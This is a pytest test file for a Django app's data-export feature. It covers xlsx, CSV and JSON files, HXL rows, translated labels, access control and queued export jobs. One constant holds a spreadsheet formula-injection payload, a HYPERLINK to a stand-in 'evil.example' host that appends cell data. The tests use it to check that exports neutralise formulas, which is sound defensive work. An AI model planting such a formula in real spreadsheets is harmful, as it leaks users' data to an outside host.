"""Exports of a whole cycle: xlsx, CSV (zip) and JSON read back, HXL row when asked, labels in
the chosen language, cells safe from formula injection, who may export, and every export a
job of the task queue (its progress, its link, its failure and retry)."""

import csv
import datetime as dt
import io
import json
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from gcmhub.assessments.models import Assignment, Consultation, Input, Need
from gcmhub.core.models import JobStatus
from gcmhub.core.workflow import State
from gcmhub.exports import build, kinds, services
from gcmhub.exports.models import ExportJob
from gcmhub.framework.models import Objective
from gcmhub.priorities.models import Decision
from gcmhub.tests import factories
from gcmhub.tests.demo import load_demo

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
KIND_KEYS = [k.key for k in kinds.KINDS]


@pytest.fixture
def records(cycle, org_a, org_b):
    """A few records of each main kind: a submitted input with a need, a draft one, a
    consultation, a decision, and an organisation whose name is a formula."""
    evil = factories.OrganisationFactory(network=cycle.network, name=FORMULA)
    nine = Objective.objects.get(number=9)
    Assignment.objects.create(cycle=cycle, organisation=org_a, objective=nine)
    Assignment.objects.create(cycle=cycle, organisation=evil, objective=nine)
    accepted = Input.objects.create(
        cycle=cycle,
        organisation=org_a,
        objective=nine,
        state=State.ACCEPTED,
        situation="Smuggling networks are being dismantled.",
        gaps="-2 officers short",
    )
    Need.objects.create(input=accepted, type="data", description="Better data on routes.")
    Input.objects.create(
        cycle=cycle,
        organisation=org_b,
        objective=nine,
        state=State.DRAFT,
        situation="Not ready to share.",
    )
    consultation = Consultation.objects.create(
        cycle=cycle, date=dt.date(2021, 4, 1), type="workshop", title="Workshop on objective 9"
    )
    consultation.organisations.set([org_a, evil])
    Decision.objects.create(cycle=cycle, objective=nine, horizon="short", rationale="Urgent.")
    return {"input": accepted, "evil": evil}


def _build(cycle, fmt, **options):
    options = {"language": "en", "hxl": False, **options}
    return build.build_export(cycle, fmt=fmt, **options)


def _sheet_rows(ws) -> list[list]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def _csv_files(content: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name.removesuffix(".csv"): list(
                csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
            )
            for name in archive.namelist()
            if name.endswith(".csv")
        }


def url(cycle, name="export-page", **kwargs):
    return reverse(
        name, kwargs={"network_slug": cycle.network.slug, "cycle_pk": cycle.pk, **kwargs}
    )


# The files --------------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_kind_with_headers_and_values(cycle, records):
    filename, content = _build(cycle, "xlsx")
    assert filename.endswith(".xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(content))
    assert len(wb.sheetnames) == len(kinds.KINDS)
    inputs = _sheet_rows(wb["Inputs"])
    assert inputs[0][:6] == [
        "Record number",
        "Organisation",
        "Organisation number",
        "GCM objective number",
        "GCM objective",
        "State",
    ]
    assert len(inputs) == 2  # header and the accepted input: no HXL row, no draft
    assert inputs[1][0] == records["input"].pk  # numbers stay numbers
    assert inputs[1][1] == "Ministry A (MA)"
    assert inputs[1][3] == 9
    assert inputs[1][5] == "Accepted"
    assert not any(str(cell).startswith("#") for cell in inputs[1] if cell)
    assert wb["Inputs"].freeze_panes == "A2"
    assert wb["Inputs"]["A1"].font.bold


def test_xlsx_adds_the_hxl_row_under_the_header_when_asked(cycle, records):
    wb = openpyxl.load_workbook(io.BytesIO(_build(cycle, "xlsx", hxl=True)[1]))
    rows = _sheet_rows(wb["Decisions"])
    assert rows[1][:4] == [
        "#meta+id",
        "#indicator+gcm+objective+num",
        "#indicator+gcm+objective+name",
        "#priority+horizon",
    ]
    assert rows[2][3] == "Short term"
    assert wb["Decisions"].freeze_panes == "A3"
    for ws in wb.worksheets:  # every column of every sheet has its hashtag
        header, hashtags = _sheet_rows(ws)[:2]
        assert all(tag and tag.startswith("#") for tag in hashtags)
        assert len(header) == len(hashtags)


def test_csv_zip_has_a_file_per_kind_with_the_hxl_row_second_when_asked(cycle, records):
    filename, content = _build(cycle, "csv", hxl=True)
    assert filename.endswith("-csv.zip")
    files = _csv_files(content)
    assert sorted(files) == sorted(KIND_KEYS)
    needs = files["needs"]
    assert needs[0] == [
        "Record number",
        "Input number",
        "Organisation",
        "GCM objective number",
        "Type of need",
        "Description",
    ]
    assert needs[1][0] == "#meta+id" and needs[1][4] == "#sector+need"
    assert needs[2][4:] == ["Data", "Better data on routes."]
    without = _csv_files(_build(cycle, "csv")[1])["needs"]
    assert len(without) == 2 and without[1][4] == "Data"


def test_csv_is_utf8_with_a_byte_order_mark_for_excel(cycle, records):
    content = _build(cycle, "csv", language="tr")[1]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        raw = archive.read("organisations.csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    assert next(csv.reader(io.StringIO(raw.decode("utf-8"))))[0].startswith("\ufeff")
    header = _csv_files(content)["inputs"][0]
    assert header[1] == "Kurum"


def test_json_is_one_document_with_the_cycle_and_every_kind(cycle, records):
    filename, content = _build(cycle, "json")
    assert filename.endswith(".json")
    document = json.loads(content)
    assert document["cycle"]["id"] == cycle.pk
    assert document["language"] == "en"
    assert list(document["kinds"]) == KIND_KEYS
    inputs = document["kinds"]["inputs"]
    assert [c["key"] for c in inputs["columns"]][:3] == ["id", "organisation", "organisation_id"]
    (record,) = inputs["records"]
    assert record["objective"] == 9 and record["state"] == "Accepted"
    assert record["gaps"] == "-2 officers short"  # JSON keeps the text as written
    organisations = document["kinds"]["organisations"]["records"]
    assert FORMULA in [o["name"] for o in organisations]


def test_labels_and_values_are_in_the_chosen_language(cycle, records):
    wb = openpyxl.load_workbook(io.BytesIO(_build(cycle, "xlsx", language="tr")[1]))
    assert "Katkılar" in wb.sheetnames  # Inputs
    header, row = _sheet_rows(wb["Katkılar"])[:2]
    assert header[1] == "Kurum"
    assert row[5] == "Kabul edildi"
    assert row[4] == Objective.objects.get(number=9).title_tr
    decisions = _sheet_rows(wb["Kararlar"])
    assert decisions[1][3] == "Kısa vade"
    english = json.loads(_build(cycle, "json", language="en")[1])
    assert english["kinds"]["inputs"]["records"][0]["state"] == "Accepted"


def test_cells_that_look_like_formulas_come_back_as_text(cycle, records):
    wb = openpyxl.load_workbook(io.BytesIO(_build(cycle, "xlsx")[1]))
    names = [row[1] for row in _sheet_rows(wb["Organisations"])[1:]]
    assert "'" + FORMULA in names
    assert FORMULA not in names
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
    inputs = _sheet_rows(wb["Inputs"])
    assert inputs[1][8] == "'-2 officers short"
    files = _csv_files(_build(cycle, "csv")[1])
    assert "'" + FORMULA in [row[1] for row in files["organisations"]]
    assert files["consultations"][1][4] == "'" + FORMULA + "; MA"  # joined lists too


def test_draft_records_stay_out_of_the_export(cycle, records):
    document = json.loads(_build(cycle, "json")[1])
    situations = [r["situation"] for r in document["kinds"]["inputs"]["records"]]
    assert situations == ["Smuggling networks are being dismantled."]


def test_an_export_takes_the_same_number_of_queries_whatever_the_data(
    cycle, records, django_assert_max_num_queries
):
    with django_assert_max_num_queries(40) as small:
        _build(cycle, "xlsx")
    for number in range(1, 6):
        organisation = factories.OrganisationFactory(network=cycle.network)
        objective = Objective.objects.get(number=number)
        submitted = Input.objects.create(
            cycle=cycle, organisation=organisation, objective=objective, state="submitted"
        )
        Need.objects.create(input=submitted, type="capacity", description="Training.")
        Decision.objects.create(cycle=cycle, objective=objective, horizon="medium")
    with django_assert_max_num_queries(len(small.captured_queries)):
        _build(cycle, "xlsx")


def test_unknown_format_or_language_is_refused(cycle):
    with pytest.raises(ValueError):
        build.build_export(cycle, fmt="pdf", language="en", hxl=False)
    with pytest.raises(ValueError):
        build.build_export(cycle, fmt="xlsx", language="fr", hxl=False)


# The page ---------------------------------------------------------------------------------


def _export(client, cycle, run_tasks, data) -> ExportJob:
    """Ask for an export on the page, let a worker make it; the job."""
    response = client.post(url(cycle), data)
    assert response.status_code == 302
    assert run_tasks() == 1
    return ExportJob.objects.get()


def test_every_export_is_a_job_and_its_link_appears_once_made(
    client, cycle, records, coordinator, run_tasks
):
    client.force_login(coordinator)
    page = client.get(url(cycle)).content.decode()
    assert 'name="format"' in page and 'name="hxl"' in page
    response = client.post(url(cycle), {"format": "csv", "language": "tr", "hxl": "on"})
    assert response.status_code == 302  # nothing is made in the request
    job = ExportJob.objects.get()
    assert (job.status, job.requested_by) == (JobStatus.QUEUED, coordinator)
    page = client.get(url(cycle)).content.decode()
    assert "Waiting for a worker" in page and 'hx-trigger="every 1s"' in page
    assert run_tasks() == 1
    job.refresh_from_db()
    assert (job.status, job.progress, job.attempts) == (JobStatus.DONE, 100, 1)
    assert job.file.name.startswith(f"exports/{cycle.pk}/") and job.finished_at
    fragment = client.get(url(cycle, "export-job", job_pk=job.pk), HTTP_HX_REQUEST="true")
    html = fragment.content.decode()
    download = url(cycle, "export-download", job_pk=job.pk)
    assert "hx-trigger" not in html  # finished: polling stops
    assert download in html and f"Download {job.filename}" in html
    assert job.filename.startswith("gcmhub-alpha-") and job.filename.endswith("-tr-csv.zip")
    file = client.get(download)
    assert file["Content-Type"] == "application/zip"
    assert f'filename="{job.filename}"' in file["Content-Disposition"]
    assert _csv_files(b"".join(file.streaming_content))["inputs"][1][0] == "#meta+id"


@pytest.mark.parametrize(
    ("persona", "expected"),
    [("consultant", 403), ("focal_a", 403), ("observer", 403), ("outsider", 404)],
)
def test_only_the_coordinator_may_export(client, cycle, personas, persona, expected):
    client.force_login(personas[persona])
    assert client.get(url(cycle)).status_code == expected
    assert client.post(url(cycle), {"format": "xlsx", "language": "en"}).status_code == expected


def test_bad_choices_get_a_form_error_not_a_500(client, cycle, coordinator):
    client.force_login(coordinator)
    response = client.post(url(cycle), {"format": "pdf", "language": "fr"})
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert set(errors) == {"format", "language"}
    assert "Select a valid choice" in response.content.decode()


def test_the_cycle_home_links_to_the_export_page_for_coordinators(
    client, cycle, coordinator, observer
):
    client.force_login(coordinator)
    assert url(cycle) in client.get(cycle.get_absolute_url()).content.decode()
    client.force_login(observer)
    assert url(cycle) not in client.get(cycle.get_absolute_url()).content.decode()


# Background jobs --------------------------------------------------------------------------


def test_an_xlsx_export_is_kept_for_download(client, cycle, records, coordinator, run_tasks):
    client.force_login(coordinator)
    job = _export(client, cycle, run_tasks, {"format": "xlsx", "language": "en", "hxl": "on"})
    page = client.get(url(cycle)).content.decode()
    download = url(cycle, "export-download", job_pk=job.pk)
    assert download in page
    file = client.get(download)
    assert file.status_code == 200
    assert file["Content-Type"].startswith("application/vnd.openxmlformats")
    assert f'filename="{job.filename}"' in file["Content-Disposition"]
    wb = openpyxl.load_workbook(io.BytesIO(b"".join(file.streaming_content)))
    assert _sheet_rows(wb["Inputs"])[1][0] == "#meta+id"


def test_a_job_being_made_polls_with_a_labelled_progress_bar(client, cycle, coordinator):
    job = ExportJob.objects.create(
        cycle=cycle,
        requested_by=coordinator,
        format="json",
        language="en",
        progress=40,
        status=JobStatus.RUNNING,
        attempts=1,
        heartbeat_at=timezone.now(),
    )
    client.force_login(coordinator)
    fragment = client.get(url(cycle, "export-job", job_pk=job.pk), HTTP_HX_REQUEST="true")
    html = fragment.content.decode()
    assert 'hx-trigger="every 1s"' in html
    assert f'<progress id="job-progress-{job.pk}" max="100" value="40">' in html
    assert f'<label for="job-progress-{job.pk}">' in html
    assert client.get(url(cycle, "export-download", job_pk=job.pk)).status_code == 404
    assert client.get(url(cycle, "export-job", job_pk=job.pk)).status_code == 302


def test_a_failing_job_records_why_and_can_be_made_again(
    client, monkeypatch, cycle, records, coordinator, run_tasks
):
    real = build.build_export

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(build, "build_export", broken)
    client.force_login(coordinator)
    job = _export(client, cycle, run_tasks, {"format": "xlsx", "language": "en"})
    assert job.status == JobStatus.FAILED and not job.file
    assert "(RuntimeError: disk full)" in job.error
    page = client.get(url(cycle)).content.decode()
    retry = url(cycle, "export-retry", job_pk=job.pk)
    assert "disk full" in page and retry in page and "Try again" in page
    assert client.get(url(cycle, "export-download", job_pk=job.pk)).status_code == 404

    monkeypatch.setattr(build, "build_export", real)
    row = client.post(retry, HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 1s"' in row and "Waiting for a worker" in row
    assert run_tasks() == 1
    job.refresh_from_db()
    assert (job.status, job.error) == (JobStatus.DONE, "")
    assert client.get(url(cycle, "export-download", job_pk=job.pk)).status_code == 200


def test_only_a_failed_export_can_be_made_again(client, cycle, coordinator, run_tasks):
    client.force_login(coordinator)
    job = services.export_start(cycle=cycle, by=coordinator, fmt="json", language="en", hxl=False)
    response = client.post(url(cycle, "export-retry", job_pk=job.pk), follow=True)
    assert "Only an export that failed can be made again." in response.content.decode()
    assert run_tasks() == 1  # the job was queued once


def test_an_export_whose_worker_died_is_queued_again_when_the_page_looks_at_it(
    client, settings, cycle, coordinator, run_tasks
):
    job = services.export_start(cycle=cycle, by=coordinator, fmt="json", language="en", hxl=False)
    long_ago = timezone.now() - dt.timedelta(seconds=settings.JOB_TIMEOUT_SECONDS + 1)
    # A worker took it and died: running, its heartbeat silent.
    ExportJob.objects.filter(pk=job.pk).update(
        status=JobStatus.RUNNING, attempts=1, heartbeat_at=long_ago, progress=40
    )
    client.force_login(coordinator)
    row = client.get(url(cycle, "export-job", job_pk=job.pk), HTTP_HX_REQUEST="true")
    job.refresh_from_db()
    assert job.status == JobStatus.QUEUED
    assert "Waiting for a worker" in row.content.decode()
    assert run_tasks() >= 1
    job.refresh_from_db()
    assert (job.status, job.attempts) == (JobStatus.DONE, 2)


def test_old_jobs_can_be_deleted_with_their_file(client, cycle, records, coordinator, run_tasks):
    client.force_login(coordinator)
    job = _export(client, cycle, run_tasks, {"format": "json", "language": "en"})
    storage, name = job.file.storage, job.file.name
    assert storage.exists(name)
    response = client.post(url(cycle, "export-delete", job_pk=job.pk))
    assert response.status_code == 302
    assert not ExportJob.objects.exists() and not storage.exists(name)


def test_a_job_still_waiting_cannot_be_deleted(client, cycle, coordinator):
    job = services.export_start(cycle=cycle, by=coordinator, fmt="json", language="en", hxl=False)
    client.force_login(coordinator)
    response = client.post(url(cycle, "export-delete", job_pk=job.pk), follow=True)
    assert "An export being made cannot be deleted" in response.content.decode()
    assert ExportJob.objects.filter(pk=job.pk).exists()


def test_jobs_of_another_network_are_not_found(client, cycle, other_cycle, coordinator):
    job = ExportJob.objects.create(cycle=other_cycle, format="json", language="en")
    client.force_login(coordinator)
    assert client.get(url(cycle, "export-download", job_pk=job.pk)).status_code == 404


# The case ---------------------------------------------------------------------------------


def test_the_demo_cycle_exports_every_kind_it_holds(client, run_tasks):
    from django_tasks_db.models import DBTaskResult

    from gcmhub.core.models import Cycle, FileJob, User

    load_demo()
    # The demo's versions queued their Word and PDF files: not this test's work.
    FileJob.objects.all().delete()
    DBTaskResult.objects.all().delete()
    cycle = Cycle.objects.select_related("network").get(title="GCM Needs Assessment 2021")
    client.force_login(User.objects.get(username="coordinator"))
    job = _export(client, cycle, run_tasks, {"format": "json", "language": "en"})
    response = client.get(url(cycle, "export-download", job_pk=job.pk))
    document = json.loads(b"".join(response.streaming_content))
    counts = {key: len(kind["records"]) for key, kind in document["kinds"].items()}
    for key in [
        "organisations",
        "inputs",
        "consultations",
        "scores",
        "decisions",
        "meetings",
        "attendance",
        "activities",
        "indicators",
        "progress_reports",
        "obligations",
        "review_comments",
        "endorsements",
        "action_points",
    ]:
        assert counts[key] > 0, key


@pytest.mark.parametrize("status", [JobStatus.DONE, JobStatus.QUEUED])
def test_an_export_of_no_known_format_says_so_instead_of_failing(
    client, cycle, coordinator, status
):
    from django.core.files.base import ContentFile

    job = ExportJob(cycle=cycle, requested_by=coordinator, format="", language="en", status=status)
    job.file.save("export.bin", ContentFile(b"data"), save=False)
    job.save()
    client.force_login(coordinator)
    response = client.get(url(cycle, "export-download", job_pk=job.pk), follow=True)
    assert response.redirect_chain == [(url(cycle), 302)]
    assert "This export has no known format: make a new export." in response.content.decode()
